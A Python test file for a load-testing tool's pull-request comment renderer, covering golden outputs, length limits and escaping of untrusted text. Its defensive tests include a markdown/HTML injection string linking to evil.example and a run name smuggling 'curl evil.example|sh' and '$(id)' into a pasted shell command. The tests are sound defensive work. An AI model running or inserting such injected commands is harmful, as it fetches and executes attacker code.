"""The gate's comment: golden files, room, quiet, and text that is not ours."""

import re
import shlex
from collections.abc import Callable
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from deploykit.catalog.margins import Margins
from deploykit.gating.cost_lines import CostLine
from deploykit.gating.noise import in_twos
from deploykit.gating.sameness import Change
from deploykit.gating.verdict import Arm, Gate, judge
from deploykit.reporting.gate_comment import gate_comment, marker
from deploykit.reporting.markdown import COMMENT_LIMIT
from tests.gating.builders import arms, gate_of, make_gate_run, throughputs

STEADY = throughputs(1000, 1004, 998)
HOSTILE = "x|y <img src=x> @all [a](https://evil.example) `c` #1 <!-- --> </details> \n# big\n| a |"


def slowed() -> Gate:
    base, head = arms(STEADY, throughputs(800, 806, 795))
    changed = [run.model_copy(update={"may_differ": run.may_differ | {"set max-num-seqs": "1"}}) for run in head]
    changed[0] = changed[0].model_copy(update={"evidence_sha256": "7f" * 32})
    bills = "The API is cheaper: $0.12/M from Acme (mixtress, off-peak), $0.50/M on this node at the measured load."
    costs = (
        CostLine(what="self-hosted, acme, at the measured load", usd_per_m=Decimal("0.5"), usd_per_1k_good=Decimal("4.5"), note="16.00 USD/h"),
        CostLine(what="Acme mixtress, our cache hit rate", usd_per_m=Decimal("0.12"), usd_per_1k_good=None, note="price of 2026-11-23, off-peak"),
    )  # fmt: skip
    mix = "36 % fresh, 53 % cached, 11 % output"
    changed[-1] = changed[-1].model_copy(update={"bills": bills, "costs": costs, "mix": mix})
    return judge(base, changed, Margins(), names=("9f8e7d6", "a1b2c3d"))


def invalid() -> Gate:
    base, head = arms(STEADY, STEADY)
    head[1] = head[1].model_copy(update={"verdict": "INVALID", "reasons": ("the load generator was late",)})
    return judge(base, head, Margins())


NOISE = in_twos([make_gate_run(f"n{i}", 50 + i, figures=f) for i, f in enumerate(throughputs(1000, 1004, 1001, 999))])
CASES: dict[str, Callable[[], Gate]] = {
    "gate-same": lambda: gate_of(STEADY, throughputs(1001, 999, 1003), noise=NOISE),
    "gate-improved": lambda: gate_of(STEADY, throughputs(1200, 1210, 1195)),
    "gate-regressed": slowed,
    "gate-unclear": lambda: gate_of(throughputs(1000, 1040, 970), throughputs(1010, 1000, 1000)),
    "gate-not-in-turns": lambda: gate_of(STEADY, STEADY, "AAABBB"),
    "gate-invalid": invalid,
}


@pytest.mark.parametrize("case", CASES)
def test_golden(case: str, golden: Callable[[str, str], None]) -> None:
    golden(f"{case}.md", gate_comment(CASES[case]()))


@pytest.mark.parametrize("case", CASES)
def test_the_hidden_marker_and_the_verdict_come_first(case: str) -> None:
    gate = CASES[case]()
    lines = gate_comment(gate).splitlines()
    assert lines[0] == marker(gate) == "<!-- deploykit:loadtest:mixtress-1-x-t9000-8x-chat -->"
    assert lines[2].startswith("### deploykit load test: ")


def test_quiet_is_one_line_and_only_where_nothing_changed(golden: Callable[[str, str], None]) -> None:
    golden("gate-quiet.md", gate_comment(CASES["gate-same"](), quiet=True))
    for case in set(CASES) - {"gate-same"}:
        assert gate_comment(CASES[case](), quiet=True) == gate_comment(CASES[case]())


def hostile(text: str) -> Gate:
    """A gate whose every text is somebody else's."""
    gate = slowed()
    return gate.model_copy(
        update={
            "target": text,
            "says": text,
            "base": Arm(name=text, runs=(text,) * 3, evidence_sha256=(text,) * 3),
            "head": Arm(name=text, runs=(text,) * 3, evidence_sha256=(None,) * 3),
            "of": dict.fromkeys(gate.of, text),
            "changed": tuple(Change(what=text, base=text, head=text) for _ in range(12)),
            "metrics": tuple(m.model_copy(update={"title": text, "note": text, "because": text}) for m in gate.metrics),
            "order": gate.order.model_copy(update={"says": text}),
            "caveats": tuple(c.model_copy(update={"says": text}) for c in gate.caveats),
            "bills": text,
            "mix": text,
            "costs": tuple(line.model_copy(update={"what": text, "note": text}) for line in gate.costs),
        }
    )


OURS = {"<code>", "</code>", "<details>", "</details>", "<summary>", "</summary>", "<sub>", "</sub>"}


def outside_fences(text: str) -> str:
    return re.sub(r"^```sh\n.*?^```$", "", text, flags=re.DOTALL | re.MULTILINE)


@settings(deadline=None)
@given(st.text() | st.just(HOSTILE))
def test_no_text_links_mentions_or_breaks_out(text: str) -> None:
    said = gate_comment(hostile(text))
    assert re.fullmatch(r"<!-- deploykit:loadtest:[A-Za-z0-9.-]* -->", said.splitlines()[0])
    body = outside_fences(said.split("\n", 1)[1])
    assert set(re.findall(r"<[^>]*>", body)) <= OURS
    assert "@" not in body
    assert "](" not in body
    assert "`" not in body
    assert body.count("<details>") == body.count("</details>")
    assert "-->" not in body
    headings = [line for line in body.splitlines() if line.startswith("#")]
    assert len(headings) == 1
    for line in body.splitlines():
        assert not line.startswith("|") or line.count("|") in {4, 5, 6}


def test_a_hostile_text_does_not_end_the_commands() -> None:
    said = gate_comment(hostile("a\n```\n# heading\n@all"))
    (fence,) = re.findall(r"^```sh\n(.*?)^```$", said, flags=re.DOTALL | re.MULTILINE)
    assert "```" not in fence


def test_a_hostile_name_is_one_word_of_the_command_that_people_paste() -> None:
    gate = slowed()
    head = gate.head.model_copy(update={"runs": ("x; curl evil.example|sh #", "$(id)\n`id`", "b3")})
    said = gate_comment(gate.model_copy(update={"head": head}))
    (fence,) = re.findall(r"^```sh\n(.*?)^```$", said, flags=re.DOTALL | re.MULTILINE)
    words = shlex.split(fence, comments=True)
    assert words[:3] == ["deploykit", "gate", "--base"]
    assert len(words) == 6
    assert "evil.example" in words[5]


@pytest.mark.parametrize("text", ["@" * 100_000, "x" * 100_000, "ü" * 100_000, "\n" * 100_000, "a " * 50_000])
def test_it_fits_a_comment_whatever_it_is_given(text: str) -> None:
    for quiet in (False, True):
        gate = hostile(text)
        assert len(gate_comment(gate, quiet=quiet)) < COMMENT_LIMIT
        assert len(gate_comment(gate.model_copy(update={"outcome": "SAME"}), quiet=quiet)) < COMMENT_LIMIT


def test_what_is_left_out_is_named() -> None:
    many = tuple(Change(what=f"set {i}", base="b" * 50, head="h" * 50) for i in range(2000))
    text = gate_comment(slowed().model_copy(update={"changed": many}))
    assert len(text) < COMMENT_LIMIT
    assert "Left out, to fit a comment: Everything that differs." in text
    assert "and 1992 more" in text
    assert "<summary>Reproduce</summary>" in text


def test_a_rehearsal_says_so() -> None:
    base, head = arms(STEADY, STEADY)
    both = [[run.model_copy(update={"same": run.same | {"stand-in": "tiny"}}) for run in arm] for arm in (base, head)]
    assert "Rehearsal: hardware and weights are stand-ins" in gate_comment(judge(*both, Margins()))
